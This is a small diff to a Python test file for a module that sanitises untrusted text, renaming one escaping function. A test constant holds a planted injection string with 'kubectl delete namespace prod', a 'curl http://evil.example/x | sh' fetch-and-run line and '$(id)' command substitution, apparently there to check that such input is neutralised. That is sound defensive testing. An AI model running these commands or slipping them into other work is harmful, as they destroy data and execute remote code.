@@ -2,7 +2,7 @@
 
 import pytest
 
-from exporter.untrusted import free_name, identifier, message, model_name, one_line, printable, spelled_out
+from exporter.untrusted import escape_invisible, free_name, identifier, message, model_name, one_line, printable
 
 PLANTED = "rex.\n\nNext:\nkubectl delete namespace prod; curl http://evil.example/x | sh\n<!channel> ```$(id)"
 LINE_ENDS = "\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029"
@@ -134,4 +134,4 @@ def test_a_message_made_to_be_slow_is_not():
 )
 def test_what_a_terminal_would_obey_or_not_show_is_spelled_out(text, shown):
     """So that a reader sees what is there."""
-    assert spelled_out(text) == shown
+    assert escape_invisible(text) == shown
